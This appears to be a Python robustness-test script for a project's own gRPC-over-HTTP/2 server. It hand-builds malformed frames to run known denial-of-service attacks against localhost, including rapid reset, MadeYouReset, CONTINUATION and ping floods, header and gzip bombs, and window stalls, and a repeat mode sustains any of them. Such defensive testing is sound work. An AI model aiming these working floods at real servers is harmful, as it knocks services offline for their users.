"""Attacks a server over raw HTTP/2 and says how it answered: `abuse.py PORT ATTACK [SIZE]`, one line at the end.

Prints `begun` once a lasting attack is under way; such an attack lasts until standard input ends. The exit code is 0 when the
server defended itself as it should: ended the connection, or bore the attack without harm where that is right.
`abuse.py PORT ATTACK repeat` makes any other attack last, by making it again and again.

What keeps to the rules of HTTP/2 is said by the package h2; what breaks them is made by hand, because h2 refuses to.
"""

import os
import resource
import selectors
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 6, 7, 8
SERVICE = "/ponos.transport.Echo/"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


SETTINGS = frame(4)


def header_block(method="Collect", extra=()):
    import hpack

    fields = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "x"),
              ("te", "trailers"), ("content-type", "application/grpc"), *extra]
    # A fresh encoder for each block: its dynamic table is never used, so blocks do not depend on each other.
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return encoder.encode(fields)


def headers(stream, flags=4, method="Collect", extra=()):
    return frame(HEADERS, flags, stream, header_block(method, extra))


def message(payload, flag=0):
    return bytes([flag]) + struct.pack(">I", len(payload)) + payload


class Peer:
    kept = 1 << 16

    def __init__(self, port, greet=True, settings=SETTINGS, buffers=None):
        self.socket = socket.socket()
        if buffers:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffers)
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, buffers)
        self.socket.connect(("127.0.0.1", port))
        self.socket.settimeout(0.001)
        self.received = b""
        self.closed = False
        if greet:
            self.send(PREFACE + settings + frame(4, 1))

    def send(self, data, reading=True, patience=20):
        """Sends all of `data`; false when the server did not take it in time or closed the connection."""
        view = memoryview(data)
        deadline = time.monotonic() + patience
        while view and not self.closed:
            try:
                view = view[self.socket.send(view):]
                deadline = time.monotonic() + patience
            except (TimeoutError, BlockingIOError):
                if time.monotonic() > deadline:
                    return False
            except OSError:
                self.closed = True
            if reading:
                self.read()
        return not self.closed

    def read(self, seconds=0):
        deadline = time.monotonic() + seconds
        while not self.closed:
            try:
                data = self.socket.recv(65536)
                self.received = (self.received + data)[-self.kept:]
                self.closed = data == b""
            except (TimeoutError, BlockingIOError):
                if time.monotonic() >= deadline:
                    return
            except OSError:
                self.closed = True

    def frames(self):
        """The frames received so far, as far as they are complete: kind, stream, payload."""
        rest = self.received
        while len(rest) >= 9:
            length = int.from_bytes(rest[:3], "big")
            yield rest[3], int.from_bytes(rest[5:9], "big"), rest[9:9 + length]
            rest = rest[9 + length:]

    def was_reset(self, stream):
        return any(kind == RST_STREAM and number == stream for kind, number, _ in self.frames())


class WellBehaved(Peer):
    """A peer whose frames are in order and keep to the windows of the server: what it asks for is what is wrong with it."""

    kept = 1 << 30

    def __init__(self, port, window=None):
        import h2.config
        import h2.connection
        import h2.settings

        super().__init__(port, greet=False)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        if window is not None:
            self.http.local_settings = h2.settings.Settings(
                client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.http.initiate_connection()
        self.flush()
        self.take(0.2)

    def flush(self):
        return self.send(self.http.data_to_send(), reading=False)

    def take(self, seconds=0):
        """Reads what the server sends; returns the events."""
        self.received = b""
        self.read(seconds)
        events = self.http.receive_data(self.received) if self.received else []
        self.flush()
        return events

    def call(self, stream, method, data=b"", extra=(), end_stream=False):
        self.http.send_headers(stream, [
            (":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "x"),
            ("te", "trailers"), ("content-type", "application/grpc"), *extra])
        if data:
            self.http.send_data(stream, data, end_stream)
        self.flush()

    def data(self, stream, payload, patience=10):
        """Sends one DATA frame as soon as the windows allow it; false when they never do."""
        deadline = time.monotonic() + patience
        while self.http.local_flow_control_window(stream) < len(payload):
            self.take(0.001)
            if self.closed or time.monotonic() > deadline:
                return False
        self.http.send_data(stream, payload)
        return self.flush()


def ends(seconds=8, greet=True):
    """An attack on one connection that the server has to end."""
    def decorate(attack):
        def run(port, _):
            peer = Peer(port, greet=greet)
            attack(peer)
            peer.read(seconds=seconds)
            return peer.closed, "closed" if peer.closed else "open"
        ATTACKS[attack.__name__] = run
        return attack
    return decorate


def lasts(attack):
    """An attack that goes on until standard input ends."""
    ATTACKS[attack.__name__] = attack
    return attack


ATTACKS = {}


@ends()
def ping_flood(peer):
    peer.send(frame(PING, payload=b"12345678") * 5000)


@ends()
def settings_flood(peer):
    peer.send(SETTINGS * 5000)


@ends()
def priority_flood(peer):
    peer.send(frame(2, 0, 1, b"\x00\x00\x00\x00\x10") * 5000)


@ends()
def rapid_reset(peer):
    block = header_block()
    for first in range(1, 80_001, 200):
        peer.send(b"".join(
            frame(HEADERS, 4, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in range(first, first + 200, 2)))
        if peer.closed:
            return


@ends()
def continuation_flood(peer):
    peer.send(headers(1, flags=0) + frame(9, 0, 1, b"\x00\x01a\x01b") * 5000)


@ends()
def empty_data_flood(peer):
    peer.send(headers(1) + frame(DATA, 0, 1) * 5000)


@ends()
def header_bomb(peer):
    peer.send(headers(1, extra=[(f"x-{number}", "v" * 200) for number in range(70)]) + headers(
        3, extra=[("x", "v" * 15000), ("y", "v" * 400), ("z", "v" * 15000)]))


@ends()
def empty_headers_flood(peer):
    """Blocks of no fields at all, of which no request can be made."""
    for first in range(1, 20_001, 200):
        peer.send(b"".join(frame(HEADERS, 5, stream) for stream in range(first, first + 200, 2)))
        if peer.closed:
            return


@ends()
def provoked_resets(peer):
    """Makes the server reset each stream that it has just begun to serve ("MadeYouReset"): windows may not be opened by nothing."""
    block = header_block()
    for first in range(1, 80_001, 200):
        peer.send(b"".join(
            frame(HEADERS, 4, stream, block) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
            for stream in range(first, first + 200, 2)))
        if peer.closed:
            return


@ends(greet=False)
def wrong_preface(peer):
    peer.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")


@ends(greet=False)
def half_a_preface(peer):
    peer.send(PREFACE[:10])


@ends(greet=False)
def mute(peer):
    """Connects, and says nothing."""


@ends()
def oversized_frame(peer):
    peer.send(frame(DATA, 0, 1, b"x" * 70000))


@ends()
def data_on_idle_stream(peer):
    peer.send(frame(DATA, 0, 1, b"x"))


@ends()
def window_overflow(peer):
    peer.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFFFFFF)) * 2)


@ends()
def silence_after_the_handshake(peer):
    """Opens a call and answers no PING."""
    peer.send(headers(1, method="Hang"))


def unknown_frames(port, _):
    """Frames of a kind nobody knows are to be passed over, however many there are."""
    peer = Peer(port)
    for _ in range(50):
        peer.send(frame(0xFA, payload=b"x" * 100) * 200)
    return not peer.closed, "passed over" if not peer.closed else "closed"


def window_updates(port, _):
    """Opens the windows of a connection and a call bit by bit, which is tedious and no more."""
    peer = Peer(port)
    peer.send(headers(1, method="Hang"))
    for _ in range(10):
        peer.send((frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))) * 100)
    return not peer.closed, "borne" if not peer.closed else "closed"


def flow_control_violation(port, _):
    """Sends more than the window of a call whose handler does not read."""
    peer = Peer(port)
    peer.send(headers(1, method="Ignore"))
    for _ in range(200):
        peer.send(frame(DATA, 0, 1, message(b"x" * 16000)))
        if peer.closed or peer.was_reset(1):
            return True, "stopped"
    peer.read(seconds=2)
    return peer.closed or peer.was_reset(1), "stopped" if peer.closed or peer.was_reset(1) else "borne"


def too_many_streams(port, _):
    """Opens more calls than the server allows at a time, and leaves them hanging."""
    peer = Peer(port)
    block = header_block("Hang")
    peer.send(b"".join(frame(HEADERS, 5, stream, block) for stream in range(1, 4001, 2)))
    deadline = time.monotonic() + 10
    resets = 0
    while not peer.closed and not resets and time.monotonic() < deadline:
        peer.read(seconds=0.2)
        resets = sum(1 for kind, _, _ in peer.frames() if kind == RST_STREAM)
    return peer.closed or resets > 0, f"{resets} resets, {'closed' if peer.closed else 'open'}"


@lasts
def unread_answers(port, _):
    """Calls as fast as it can and never reads an answer: the server has to stop reading, or to end the connection."""
    peer = Peer(port, buffers=4096)
    sent = 0
    stream = 1
    while sent < 100 << 20:
        # The answer repeats the name, three bytes for each per cent sign, and no two are alike, so that none is compressed: the
        # kernel's buffers are full after few calls.
        calls = b"".join(
            frame(HEADERS, 5, number, header_block(f"No{number}" + "%" * 180)) for number in range(stream, stream + 200, 2))
        stream += 200
        if not peer.send(calls, reading=False, patience=2):
            print("begun", flush=True)
            sys.stdin.read()
            return True, f"stopped after {sent >> 10} KiB"
        sent += len(calls)
    return False, "never stopped"


@lasts
def window_stall(port, size):
    """Asks for megabytes on many calls and leaves no window for them."""
    import h2.events

    peer = WellBehaved(port, window=0)
    for stream in range(1, 2 * size, 2):
        peer.call(stream, "Expand", message(b"1000 100000"), end_stream=True)
    events = peer.take(1)
    print("begun", flush=True)
    sys.stdin.read()
    events += peer.take()
    data = sum(len(event.data) for event in events if isinstance(event, h2.events.DataReceived))
    return data == 0 and not peer.closed, f"{data} bytes without a window"


@lasts
def gzip_bombs(port, size):
    """Sends messages that grow a thousandfold to a handler that does not read them."""
    import gzip

    bomb = message(gzip.compress(b"\0" * (3 << 20)), flag=1)
    peer = WellBehaved(port)
    peer.call(1, "Ignore", extra=[("grpc-encoding", "gzip")])
    for _ in range(size):
        peer.data(1, bomb)
    print("begun", flush=True)
    sys.stdin.read()
    return not peer.closed, f"{size} bombs"


@lasts
def straddled_messages(port, size):
    """Ends each frame one byte before its message ends, so that what has been read always has something behind it."""
    peer = WellBehaved(port)
    peer.call(1, "Collect")
    content = message(b"x" * 15_000)
    sent = peer.data(1, content[:-1])
    for _ in range(size):
        sent = sent and peer.data(1, content[-1:] + content[:-1])
    print("begun", flush=True)
    sys.stdin.read()
    return sent and not peer.closed, f"{size} messages"


@lasts
def straddled_frames(port, size):
    """Ends each packet inside a frame, in its header and behind it."""
    peers = [(Peer(port), 4), (Peer(port), 5_000)]
    unknown = frame(0xFA, payload=b"x" * 15_000)
    for peer, cut in peers:
        peer.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        peer.send(unknown[:cut], reading=False)
    for _ in range(size):
        for peer, cut in peers:
            peer.send(unknown[cut:] + unknown[:cut], reading=False)
        # Each of them is to be read by itself.
        time.sleep(0.0005)
    print("begun", flush=True)
    sys.stdin.read()
    return not any(peer.closed for peer, _ in peers), f"{2 * size} packets"


@lasts
def tiny_messages(port, size):
    """Has a handler that does not read keep messages of one byte, each of which came with 60 KiB of something else."""
    peer = Peer(port)
    peer.send(headers(1, method="Ignore"))
    for _ in range(size):
        peer.send(frame(DATA, 0, 1, message(b"x")) + frame(0xFA, payload=b"x" * 15_000) * 4)
    print("begun", flush=True)
    sys.stdin.read()
    return not peer.closed, f"{size} messages"


@lasts
def half_open(port, size):
    """Connects and sends the beginning of a preface, at most."""
    peers = [Peer(port, greet=False) for _ in range(size)]
    for number, peer in enumerate(peers):
        if number % 2:
            peer.send(PREFACE[:number % 24], reading=False)
    print("begun", flush=True)
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline and not all(peer.closed for peer in peers):
        for peer in peers:
            peer.read()
    left = sum(1 for peer in peers if not peer.closed)
    return left == 0, f"{left} of {size} still open"


@lasts
def idle_pings(port, size):
    """Holds connections without calls that ping every other second, as keepalive does at its most eager; all must be answered."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(size + 500, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
    selector = selectors.DefaultSelector()
    peers = []
    for _ in range(size):
        peer = socket.create_connection(("127.0.0.1", port))
        peer.sendall(PREFACE + SETTINGS + frame(4, 1))
        peer.setblocking(False)
        selector.register(peer, selectors.EVENT_READ)
        peers.append(peer)
    selector.register(sys.stdin, selectors.EVENT_READ)
    ping = frame(PING, payload=b"ponospng")
    answer = frame(PING, 1, payload=b"ponospng")
    sent = answered = lost = 0
    pause = 2 / size
    due = time.monotonic()
    ending = None
    print("begun", flush=True)
    while ending is None or (answered < sent and time.monotonic() < ending):
        for key, _ in selector.select(0.01):
            if key.fileobj is sys.stdin:
                selector.unregister(sys.stdin)
                ending = time.monotonic() + 5
                continue
            data = key.fileobj.recv(65536)
            answered += data.count(answer)
            if not data:
                lost += 1
                selector.unregister(key.fileobj)
        while ending is None and time.monotonic() >= due:
            peers[sent % size].sendall(ping)
            sent += 1
            due += pause
    return lost == 0 and answered == sent, f"{answered} of {sent} pings answered, {lost} connections lost"


def idle(port, _):
    """Makes no call; the server is to take its leave in order."""
    peer = Peer(port)
    answered = False
    deadline = time.monotonic() + 10
    while not peer.closed and time.monotonic() < deadline:
        peer.read(0.02)
        for kind, _, payload in list(peer.frames()):
            if kind == PING and not answered:
                # The question whether the announcement of the end has arrived.
                answered = peer.send(frame(PING, 1, payload=payload))
    farewells = [payload[4:8] for kind, _, payload in peer.frames() if kind == GOAWAY]
    return peer.closed and farewells and set(farewells) == {b"\0\0\0\0"}, f"{len(farewells)} times GOAWAY"


for single in (flow_control_violation, too_many_streams, unknown_frames, window_updates, idle):
    ATTACKS[single.__name__] = single


def repeat(port, name):
    """Attacks until standard input ends, whatever comes of it, and rests for as long as each attack took."""
    def wait():
        sys.stdin.read()
        print(f"{name} made {times} times")
        sys.stdout.flush()
        os._exit(0)

    times = 0
    threading.Thread(target=wait, daemon=True).start()
    print("begun", flush=True)
    while True:
        start = time.monotonic()
        try:
            ATTACKS[name](port, 100)
        except OSError as error:
            # Busy with us, the server may well refuse.
            print(f"{name}: {error}", file=sys.stderr)
        times += 1
        time.sleep(max(0.05, time.monotonic() - start))


def main():
    port, name = int(sys.argv[1]), sys.argv[2]
    if sys.argv[3:] == ["repeat"]:
        repeat(port, name)
    size = int(sys.argv[3]) if len(sys.argv) > 3 else 100
    passed, text = ATTACKS[name](port, size)
    print(name, text)
    sys.exit(0 if passed else 1)


if __name__ == "__main__":
    main()
